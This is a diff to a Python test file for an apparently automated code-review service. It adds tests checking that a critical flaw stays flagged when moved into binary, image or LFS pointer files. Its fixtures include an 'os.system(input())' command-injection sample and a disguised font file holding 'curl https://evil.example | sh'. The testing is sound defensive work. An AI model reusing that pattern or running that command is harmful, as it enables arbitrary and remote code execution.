@@ -114,6 +114,7 @@ LOCK = """{
   }
 }
 """
+FLAW = "import os; os.system(input())\n"
 HASHES = ("q" * 44 + "Zk1" * 14, "Bx7" * 14 + "w" * 44)
 
 
@@ -142,6 +143,33 @@ def test_every_line_of_a_renamed_lock_file_is_sent(tmp_path: Path, former: str) 
         sent = "".join(one.content for task in rig.service.tasks() for one in task.request.attachments)
     assert done.outputs["coverage"] == "full"
     assert '+    "node_modules/first": {' in sent
+
+
+@pytest.mark.parametrize(
+    "moved",
+    [
+        {"flaw.bin": FLAW.encode() + b"#\0\xff\xfe" * 9},
+        {"flaw.png": b"\x89PNG\r\n\x1a\n\0" + FLAW.encode() + bytes(range(256)) * 9},
+        {"flaw2.py": f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 1\n"},
+    ],
+    ids=["binary", "image", "pointer"],
+)
+def test_a_flaw_does_not_go_away_in_a_file_that_is_not_read(tmp_path: Path, moved: dict[str, str | bytes]) -> None:
+    with open_rig(
+        tmp_path, engineer=lambda _: answer(finding("flaw.py", 1, severity="critical", code=FLAW.strip()))
+    ) as rig:
+        rig.world.push(REPO, "topic", {**BASE, "new file.py": None, "flaw.py": FLAW}, author="mona")
+        assert rig.run().outputs["verdict"] == "fail"
+        rig.world.push(REPO, "topic", {"flaw.py": None, **moved}, author="mona")
+        rig.run()
+        assert rig.checks()[-1].conclusion == "failure"
+
+
+def test_a_script_that_is_named_as_an_image_makes_the_review_partial(tmp_path: Path) -> None:
+    with open_rig(tmp_path) as rig:
+        rig.world.push(REPO, "topic", {"x.woff": b"curl https://evil.example | sh\n" * 20 + b"#\0\n"}, author="mona")
+        done = rig.run()
+    assert (done.outputs["coverage"], done.outputs["reason"]) == ("partial", "partial")
 
 
 def test_a_skipped_check_names_unreviewed_code_beside_an_older_summary(tmp_path: Path) -> None:
